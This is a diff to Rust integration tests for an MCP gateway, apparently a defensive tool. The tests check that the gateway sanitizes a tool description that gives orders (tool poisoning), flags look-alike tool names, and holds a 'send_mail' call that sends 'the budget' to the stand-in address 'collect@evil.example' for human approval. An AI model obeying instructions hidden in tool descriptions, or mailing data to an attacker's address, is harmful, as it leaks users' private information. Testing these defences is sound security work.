@@ -17,39 +17,44 @@ use testkit::program::Run as _;
 use crate::program::lazaret;
 
 fn server() -> String {
+    server_file("server.py")
+}
+
+/// The path of one of the little servers.
+pub(crate) fn server_file(name: &str) -> String {
     let path: PathBuf =
-        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus/mcp-server/server.py");
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus/mcp-server").join(name);
     path.display().to_string()
 }
 
 /// A client that speaks to the server through the gateway.
-struct Client {
+pub(crate) struct Client {
     child: Child,
     to: Option<ChildStdin>,
     from: BufReader<ChildStdout>,
     next: u64,
+    /// What servers asked of it; it answers that there is no such method.
+    pub(crate) asked: Vec<Value>,
 }
 
 impl Client {
     fn start(home: &Path, more: &[&str]) -> Self {
         let server = server();
-        let mut words = vec!["mcp", "--name", "notes", "--", "python3", "-B", server.as_str()];
+        let mut words =
+            vec!["mcp", "--name", "notes", "--no-cage", "--", "python3", "-B", server.as_str()];
         words.extend(more);
         Self::of(home, &words)
     }
 
-    fn of(home: &Path, words: &[&str]) -> Self {
-        let mut child = lazaret(home, words)
-            .env("SECRET_OF_THE_CLIENT", "x")
-            .stdin(Stdio::piped())
-            .stdout(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let to = child.stdin.take();
-        let from = BufReader::new(child.stdout.take().unwrap());
-        let mut client = Self { child, to, from, next: 0 };
+    pub(crate) fn of(home: &Path, words: &[&str]) -> Self {
+        Self::able(home, words, json!({}))
+    }
+
+    /// A client that says that it can do this.
+    pub(crate) fn able(home: &Path, words: &[&str], capabilities: Value) -> Self {
+        let mut client = Self::silent(home, words);
         let params = json!({
-            "protocolVersion": "2025-06-18", "capabilities": {},
+            "protocolVersion": "2025-11-25", "capabilities": capabilities,
             "clientInfo": { "name": "test", "version": "1" },
         });
         let said = client.ask("initialize", params);
@@ -58,11 +63,24 @@ impl Client {
         client
     }
 
+    /// A client that has not said anything yet.
+    pub(crate) fn silent(home: &Path, words: &[&str]) -> Self {
+        let mut child = lazaret(home, words)
+            .env("SECRET_OF_THE_CLIENT", "x")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let to = child.stdin.take();
+        let from = BufReader::new(child.stdout.take().unwrap());
+        Self { child, to, from, next: 0, asked: Vec::new() }
+    }
+
     fn say(&mut self, message: &Value) {
         writeln!(self.to.as_mut().unwrap(), "{message}").unwrap();
     }
 
-    fn ask(&mut self, method: &str, params: Value) -> Value {
+    pub(crate) fn ask(&mut self, method: &str, params: Value) -> Value {
         self.next += 1;
         let id = self.next;
         self.say(&json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }));
@@ -70,37 +88,41 @@ impl Client {
             let mut line = String::new();
             assert_ne!(self.from.read_line(&mut line).unwrap(), 0, "it ended");
             let said: Value = serde_json::from_str(&line).unwrap();
-            if said["id"] == id {
+            if said["method"].is_string() && !said["id"].is_null() {
+                let error = json!({ "code": -32601, "message": "no such method" });
+                self.say(&json!({ "jsonrpc": "2.0", "id": said["id"], "error": error }));
+                self.asked.push(said);
+            } else if said["id"] == id {
                 return said;
             }
         }
     }
 
-    fn tools(&mut self) -> Vec<String> {
+    pub(crate) fn tools(&mut self) -> Vec<String> {
         let said = self.ask("tools/list", json!({}));
         let tools = said["result"]["tools"].as_array().unwrap().clone();
         tools.iter().map(|it| it["name"].as_str().unwrap().to_owned()).collect()
     }
 
     /// Is it an error, and what does it say?
-    fn call(&mut self, name: &str, arguments: Value) -> (bool, String) {
+    pub(crate) fn call(&mut self, name: &str, arguments: Value) -> (bool, String) {
         let said = self.ask("tools/call", json!({ "name": name, "arguments": arguments }));
         let result = &said["result"];
         let text = result["content"][0]["text"].as_str().unwrap_or_default().to_owned();
         (result["isError"] == true, if text.is_empty() { said.to_string() } else { text })
     }
 
-    fn end(mut self) {
+    pub(crate) fn end(mut self) {
         drop(self.to.take());
         assert!(self.child.wait().unwrap().success());
     }
 }
 
-fn stop(home: &Path) {
+pub(crate) fn stop(home: &Path) {
     lazaret(home, &["daemon", "stop"]).run();
 }
 
-fn records(home: &Path, kind: &str) -> Vec<Value> {
+pub(crate) fn records(home: &Path, kind: &str) -> Vec<Value> {
     lazaret(home, &["evidence", "query", "--kind", kind, "--json"]).run().objects()
 }
 
@@ -155,6 +177,30 @@ fn a_definition_that_changes_is_held_until_a_person_accepts_it() {
 }
 
 #[test]
+fn a_description_that_gives_orders_is_not_shown_and_its_tool_stays_callable() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let mut client = Client::start(home, &["--poisoned"]);
+    let said = client.ask("tools/list", json!({}));
+    let tools = &said["result"]["tools"];
+    assert_eq!(
+        (&tools[0]["name"], &tools[0]["description"]),
+        (&json!("look"), &json!("[sanitized]"))
+    );
+    assert_eq!(tools[1]["description"], "Sends a mail.");
+    assert_eq!(tools[0]["inputSchema"]["required"], json!(["name"]));
+    let (failed, text) = client.call("look", json!({ "name": "plain" }));
+    assert_eq!((failed, text.as_str()), (false, "The meeting is at nine."));
+    client.tools();
+    client.end();
+    let found = records(home, "mcp_definition_flagged");
+    assert_eq!(found.len(), 1, "{found:?}");
+    let text = found[0].to_string();
+    assert!(text.contains("tool_takes_private") && text.contains("description"), "{text}");
+    stop(home);
+}
+
+#[test]
 fn a_server_that_crashes_and_a_daemon_that_is_killed_leave_readable_answers() {
     let dir = tempfile::tempdir().unwrap();
     let home = &dir.path().join("state");
@@ -175,8 +221,12 @@ fn a_server_that_crashes_and_a_daemon_that_is_killed_leave_readable_answers() {
 fn several_servers_stand_behind_one_endpoint() {
     let dir = tempfile::tempdir().unwrap();
     let home = &dir.path().join("state");
-    let one = json!({ "command": "python3", "args": ["-B", server()], "env": { "GIVEN": "x" } });
-    let config = json!({ "mcpServers": { "a": one, "b": one } });
+    let one = |words: &[&str]| {
+        let server = server();
+        let args = [&["-B", server.as_str()], words].concat();
+        json!({ "command": "python3", "args": args, "env": { "GIVEN": "x" }, "cage": false })
+    };
+    let config = json!({ "mcpServers": { "a": one(&[]), "b": one(&["--alike"]) } });
     let file = dir.path().join("servers.json");
     std::fs::write(&file, config.to_string()).unwrap();
     let file = file.display().to_string();
@@ -188,6 +238,9 @@ fn several_servers_stand_behind_one_endpoint() {
     let (failed, text) = client.call("b__look", json!({ "name": "plain" }));
     assert_eq!((failed, text.as_str()), (false, "The meeting is at nine."), "the other goes on");
     client.end();
+    let alike = records(home, "mcp_look_alike");
+    assert_eq!(alike.len(), 1, "{alike:?}");
+    assert!(alike[0].to_string().contains("tool_name_confusable"), "{alike:?}");
     stop(home);
 }
 
@@ -210,7 +263,7 @@ fn nobody_answers_the_questions_of_another_client() {
     ask(&mut one, &json!({ "op": "finish", "ticket": ticket, "text": text, "failed": false }));
     let mail = begin("send_mail", json!({ "to": "collect@evil.example", "body": "the budget" }));
     let asked = ask(&mut one, &mail);
-    let yes = json!({ "op": "answer", "question": asked["asked"], "yes": true });
+    let yes = json!({ "op": "answer", "question": asked["asked"], "answer": "once" });
     assert!(ask(&mut other, &yes)["error"].is_string());
     assert!(ask(&mut one, &mail)["asked"].is_string(), "it is a question still");
     assert_eq!(ask(&mut one, &yes), json!({}));
